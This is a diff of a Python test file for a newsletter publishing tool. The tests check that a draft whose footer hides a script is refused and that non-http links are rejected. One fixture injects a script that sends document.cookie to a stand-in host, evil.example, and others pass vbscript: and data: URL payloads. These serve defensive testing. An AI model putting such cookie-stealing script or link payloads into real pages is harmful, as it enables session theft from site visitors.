@@ -291,14 +291,14 @@ def test_deeply_nested_footer_is_an_error_not_a_crash() -> None:
 
 
 def test_a_hostile_footer_blocks_publishing(home: Path) -> None:
-    from aidaily.review.publish import post_path, publish_draft
+    from aidaily.review.publish import publish_draft
 
     clean = DRAFT.replace(BAD_BULLET, GOOD_BULLET)
     hostile = clean.replace(FOOTER, FOOTER + '\n<script>fetch("https://evil.example/?c="+document.cookie)</script>')
     settings = build_home(home, draft=hostile)
     with pytest.raises(PublishError, match=r"footer-html.*<script>"):
         publish_draft(settings, date.fromisoformat(DAY))
-    assert not post_path(settings, date.fromisoformat(DAY)).exists()
+    assert not settings.post_path(date.fromisoformat(DAY)).exists()
     settings = build_home(home, draft=clean)  # the same draft with the house footer goes out
     assert publish_draft(settings, date.fromisoformat(DAY)).path.exists()
 
@@ -367,10 +367,10 @@ def test_the_heading_layout_of_the_series_is_clean() -> None:
      "vbscript:msgbox(1)", "data:text/html,<script>alert(1)</script>", "ftp://x.example/a"],
 )
 def test_heading_item_link_under_the_headline_must_be_http(url: str) -> None:
-    """``### [title](url)`` right under the ``##`` headline is not a section item for
-    the model (it stays raw), but it is a link on the page all the same."""
+    """``### [title](url)`` right under the ``##`` headline is a story (an item before
+    any section), and its link is checked like any other."""
     text = sectioned(ITEM_URL=url)
-    assert sectioned_bad_urls(text) == [(line_of(text, "### [苹果确认"), f"link '{url}' is not an http(s) URL")]
+    assert sectioned_bad_urls(text) == [(line_of(text, "### [苹果确认"), f"item URL '{url}' is not an http(s) URL")]
 
 
 @pytest.mark.parametrize(
